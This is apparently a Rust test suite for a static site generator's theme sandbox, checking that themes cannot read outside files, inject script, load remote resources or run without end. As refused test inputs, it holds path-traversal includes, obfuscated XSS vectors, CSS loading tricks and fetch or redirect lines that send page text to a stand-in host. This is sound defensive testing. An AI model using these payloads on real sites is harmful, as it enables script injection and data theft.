//! Themes that try to get out, to run, to flood: a finding with its file, or output that cannot act.

use super::project::{Run, build, check, themed, write};

const PAGE: &str = "templates/page.html";

/// Checks a project whose theme has one file of its own.
fn with(name: &str, text: &str) -> Run {
    check(themed(&[(name, text)]).path())
}

/// A page of plain's, with something in it.
pub fn page(inside: &str) -> String {
    format!("{{% extends \"base.html\" %}}{{% block body %}}{inside}{{% endblock %}}")
}

fn lines_of(run: &Run, code: &str, file: &str) -> Vec<u64> {
    let wanted = |finding: &&serde_json::Value| finding["code"] == code && finding["file"] == format!("themes/ours/{file}");
    run.findings.iter().filter(wanted).filter_map(|finding| finding["line"].as_u64()).collect()
}

#[test]
fn a_theme_of_a_projects_own_works() {
    let run = with(PAGE, &page("<p>{{ page.title }}</p>"));
    assert_eq!(run.code, Some(0), "{}", run.said);
}

#[test]
fn templates_that_read_files_are_refused_with_their_line() {
    let canary = "a canary that lies outside";
    for path in [
        "../../plans/plan.yaml",
        "/etc/hostname",
        "../../../outside.html",
        "..\\outside.html",
        "file:///etc/hostname",
        "themes/../../x",
        "parts/../../theme.yaml",
    ] {
        for statement in ["{% include \"PATH\" %}", "{% import \"PATH\" as x %}", "{% from \"PATH\" import x %}"] {
            let folder = themed(&[(PAGE, &page(&format!("\n{}", statement.replace("PATH", &path.replace('\\', "\\\\")))))]);
            write(folder.path(), "outside.html", canary.as_bytes());
            let run = build(folder.path());
            assert_eq!(run.code, Some(1), "{statement} {path}: {}", run.said);
            assert!(run.said.contains("themes/ours/templates/page.html:2"), "{}", run.said);
            let made = crate::support::files(&folder.path().join("booklets"));
            assert!(!made.values().any(|bytes| String::from_utf8_lossy(bytes).contains(canary)));
        }
    }
}

#[test]
fn no_template_can_mark_a_value_as_safe() {
    let raw = "<b onclick=x>canary";
    for inside in [
        "{% autoescape false %}{{ x }}{% endautoescape %}",
        "{% autoescape 'none' %}{{ x }}{% endautoescape %}",
        "{% set y %}{{ x }}{% endset %}{{ y|replace('&lt;', '<') }}",
        "{% filter replace('&lt;', '<') %}{{ x }}{% endfilter %}",
        "{% macro m(y) %}{{ y }}{{ caller() }}{% endmacro %}{% call m(x) %}{{ x }}{% endcall %}",
        "{{ [x, x]|join('') }}{{ x|escape|replace('&lt;', '<') }}{{ '%s'|format(x) }}{{ x ~ x }}{{ x|trim|upper|lower }}",
        "{{ x|prose }}{{ x|inline }}{{ {'page': x, 'anchor': x}|href }}{{ x|page_href }}{{ x|anchor(x) }}{{ x|picture }}",
        "{{ [x] }}{{ {'a': x} }}{{ namespace(a=x).a }}{{ x|list|join }}{{ x|split('k')|join('k') }}{{ head ~ x }}",
        "{{ x|string }}{{ x|default('') }}{{ [x]|first }}{{ x[0:40] }}{{ x|lines|first }}{{ [[x]]|sum(start=[])|first }}",
    ] {
        let folder = themed(&[(PAGE, &page(&format!("{{% set x = \"{raw}\" %}}{inside}")))]);
        build(folder.path());
        for (name, bytes) in crate::support::files(&folder.path().join("booklets")) {
            assert!(!String::from_utf8_lossy(&bytes).to_lowercase().contains("<b onclick"), "{inside} {name}");
        }
    }
    let run = with(PAGE, &page("\n{{ page.title|safe }}"));
    assert_eq!((run.code, lines_of(&run, "template", PAGE)), (Some(1), vec![2]), "there is no such filter");
}

#[test]
fn templates_that_never_end_are_stopped_with_their_line() {
    for (what, inside) in [
        ("loops", "\n{% for a in range(99999) %}{% for b in range(99999) %}{% if a %}{% endif %}{% endfor %}{% endfor %}"),
        ("a page that holds itself", "\n{% include \"page.html\" %}"),
        ("a macro that calls itself", "\n{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}"),
        ("a block that calls itself", "\n{{ self.body() }}"),
        ("a loop that calls itself", "\n{% for a in [1] recursive %}{{ loop([1]) }}{% endfor %}"),
        ("an endless range", "\n{{ range(1000000000) }}"),
        ("a text a thousand million times", "\n{{ \"a\" * 1000000000 }}"),
        ("a list a thousand million times", "\n{{ [1] * 1000000000 }}"),
        ("how a template works inside", "\n{{ debug() }}"),
    ] {
        let run = with(PAGE, &page(inside));
        assert_eq!(run.code, Some(1), "{what}: {}", run.said);
        assert!(!lines_of(&run, "template", PAGE).is_empty(), "{what}: {:?} {}", run.findings, run.said);
    }
    let run = with("templates/base.html", "{% extends \"page.html\" %}");
    assert_eq!(run.code, Some(1), "a circle of templates: {}", run.said);
}

#[test]
fn a_template_that_prints_without_end_is_stopped() {
    let text = page(&format!("{{% for a in range(99999) %}}{}{{% endfor %}}", "flood".repeat(20_000)));
    let run = with(PAGE, &text);
    assert_eq!(run.code, Some(1), "{}", run.said);
    assert!(run.said.contains("prints more than a booklet may hold"), "{}", run.said);
}

#[test]
fn styles_that_ask_somebody_are_refused_with_their_line() {
    for (text, column) in [
        ("@import \"https://x.example/a.css\";", 1),
        ("@IMPORT url(//x.example);", 1),
        ("@\\69mport 'x';", 1),
        ("@namespace \"x\";", 1),
        ("b { background: url(https://x.example/?a) }", 17),
        ("b { background: URL( 'http://x.example' ) }", 22),
        ("b { background: \\75rl(//x) }", 17),
        ("b { background: \\000075 rl(//x) }", 17),
        ("b { background: image-set(\"//x\" 1x) }", 27),
        ("b { background: -webkit-image-set('//x' 1x) }", 35),
        ("b { background: cross-fade(url(//x), red) }", 28),
        ("b { background: element(#x) }", 17),
        ("b { background: src(\"//x\") }", 21),
        ("b { --x: url( //x ) }", 10),
        ("@font-face { font-family: x; src: url(//x.example/a.woff2) }", 35),
        ("b { background: url(../../plans/plan.yaml) }", 17),
        ("</style><script>x</script>", 1),
        ("</STYLE >", 1),
        ("b { width: expression(alert(1)) }", 12),
        ("<!-- x", 1),
    ] {
        let run = with("assets/style.css", &format!("/* İ url(x) */\n{text}"));
        assert_eq!(run.code, Some(1), "{text}: {}", run.said);
        assert!(run.has("theme-file", "themes/ours/assets/style.css", 2, column), "{text}: {:?}", run.findings);
        assert!(run.findings.iter().all(|finding| finding["help"].as_str().is_some_and(|help| !help.is_empty())), "{text}");
    }
    let run = with("theme.yaml", "name: ours\ntokens:\n  a: \"red;}*{background:url(//x)\"\n");
    assert_eq!(lines_of(&run, "theme-token", "theme.yaml"), [3], "{}", run.said);
    for good in [
        "a { background: url(\"data:image/svg+xml,%3Csvg/%3E\"); mask: url(#m) }",
        "a { content: \"url(x)\" } /* @import 'x' */ a[title=\"@import\"] { color: red }",
        "@media (min-width: 1px) { a { --image: 1 } }",
    ] {
        let run = with("assets/style.css", good);
        assert_eq!(run.code, Some(0), "{good}: {} {:?}", run.said, run.findings);
    }
    let font = with("assets/style.css", "@font-face { font-family: x; src: url(\"data:font/woff2;base64,AA\") }");
    assert_eq!((font.code, lines_of(&font, "theme-file", "assets/style.css")), (Some(1), vec![1]), "{:?}", font.findings);
    assert!(font.said.contains("This font is never shown"), "{}", font.said);
}

/// What nobody has thought of, the page's own rules stop: they stand in each page before anything of the theme.
#[test]
fn the_rules_of_each_page_come_before_anything_of_the_theme() {
    let folder = themed(&[("assets/style.css", "a { background: url(#a) }")]);
    let run = build(folder.path());
    assert_eq!(run.code, Some(0), "{}", run.said);
    let pages: Vec<_> =
        crate::support::files(&folder.path().join("booklets")).into_iter().filter(|(name, _)| name.ends_with(".html")).collect();
    assert!(pages.len() > 10);
    for (name, bytes) in pages {
        let page = String::from_utf8_lossy(&bytes).into_owned();
        let rules =
            page.split_once("Content-Security-Policy\" content=\"").and_then(|(before, rest)| Some((before, rest.split('"').next()?)));
        let (before, rules) = rules.unwrap_or_else(|| panic!("{name} has rules"));
        assert!(before.len() < 300 && !before.contains("<style") && !before.contains("<link"), "{name}: the rules come first");
        assert!(rules.starts_with("default-src 'none'; ") && !rules.contains("unsafe") && !rules.contains("http"), "{name}: {rules}");
        for source in rules.split(';').flat_map(|rule| rule.split_whitespace().skip(1)) {
            assert!(["'none'", "'self'", "data:"].contains(&source) || source.starts_with("'sha256-"), "{name}: {source}");
        }
    }
}

#[test]
fn a_theme_brings_no_script_and_no_element_that_acts() {
    let run = with("assets/script.js", "fetch('https://x.example/?' + document.body.innerText)");
    assert_eq!((run.code, lines_of(&run, "theme-file", "assets/script.js")), (Some(1), vec![1]), "{}", run.said);
    let ours = include_str!("../../themes/plain/assets/script.js");
    assert_eq!(with("assets/script.js", ours).code, Some(0), "the program's own may be copied");
    for element in [
        "<script>location='https://x.example/'+document.title</script>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://x.example/\">",
        "<LINK rel=\"dns-prefetch\" href=\"//x.example\">",
        "<base href=\"https://x.example/\">",
        "<iframe src=\"https://x.example/\">",
        "<svg><script>x</script></svg>",
        "<p onclick=\"x\">",
        "<img src=\"https://x.example/a\">",
        "<img src=\"data:image/png;base64,AA==\" srcset=\"//x 1x\">",
        "<form><input></form>",
        "<button formaction=\"//x\">",
        "<p style=\"color: red\">",
        "<a href=\"java&#115;cript:x\">",
        "<a href=\"data:text/html,x\">",
        "<a href=\"#a\" ping=\"//x\">",
        "<svg><use href=\"//x#a\"/></svg>",
        "<svg><image href=\"https://x/{{ page.id }}\"/></svg>",
        "<svg><foreignObject></foreignObject></svg>",
        "<svg><animate attributeName=\"href\"/></svg>",
        "<svg><set attributeName=\"href\"/></svg>",
        "<svg><rect fill=\"url(//x)\"/></svg>",
    ] {
        let run = with(PAGE, &page(&format!("\n{element}")));
        assert_eq!((run.code, lines_of(&run, "theme-file", PAGE)), (Some(1), vec![2]), "{element} {}", run.said);
    }
    for assembled in [
        "<scr{{ 'ipt' }}>x</script>",
        "<{{ 'meta' }} http-equiv=refresh>",
        "<{% if true %}link{% endif %} rel=preconnect>",
        "<p o{{ 'nclick' }}=x>",
        "<p {{ 'onclick' }}=x>",
        "<img src={{ 'https:x' }}>",
        "<a href=\"{{ 'javascript' }}:x\">",
    ] {
        let run = with(PAGE, &page(assembled));
        assert_eq!((run.code, lines_of(&run, "template", PAGE)), (Some(1), vec![1]), "{assembled} {}", run.said);
    }
}

#[test]
fn a_page_keeps_its_own_rules_whatever_the_theme() {
    for base in [
        "<!doctype html><html><head></head><body>{{ booklet.frame.skip }}</body></html>",
        "<!doctype html><html><head><style>a{}</style>{{ head }}</head></html>",
        "<!doctype html><html><body>{{ head }}</body></html>",
        "<!doctype html><html title=\"><head>{{ head }}</head></html>",
        "<!doctype html><!-- <html><head>{{ head }}--></head></html>",
        "<!doctype html><html><head>{{ head }}{{ head }}</head></html>",
        "<!doctype html><html><head>{{ head|replace('none', '*') }}</head><body><noscript>{{ head }}</noscript></body></html>",
    ] {
        let run = with("templates/base.html", base);
        assert!(matches!(run.code, Some(1)), "{base} {}", run.said);
        assert!(!run.findings.is_empty(), "{base}");
    }
}

#[cfg(unix)]
#[test]
fn links_out_of_the_theme_are_not_followed() {
    use std::os::unix::fs::symlink;
    let folder = themed(&[(PAGE, &page("{% include \"secret.html\" %}"))]);
    let outside = tempfile::tempdir().expect("a folder");
    let secret = write(outside.path(), "secret.html", b"a canary that lies outside");
    symlink(&secret, folder.path().join("themes/ours/templates/secret.html")).expect("a link");
    let run = build(folder.path());
    assert_eq!(run.code, Some(1), "{}", run.said);
    assert!(!run.said.contains("canary"));
    symlink(outside.path(), folder.path().join("themes/out")).expect("a link");
    for name in ["out", "..", "../x", "/etc", "ours/../ours", "C:\\x", "nul", "\\\\host\\x", "."] {
        write(folder.path(), "ourplan.yaml", format!("theme: '{name}'\n").as_bytes());
        let run = check(folder.path());
        assert_eq!(run.code, Some(1), "{name}: {}", run.said);
        assert!(run.has("unknown-theme", "ourplan.yaml", 1, 8), "{name}: {:?}", run.findings);
    }
}
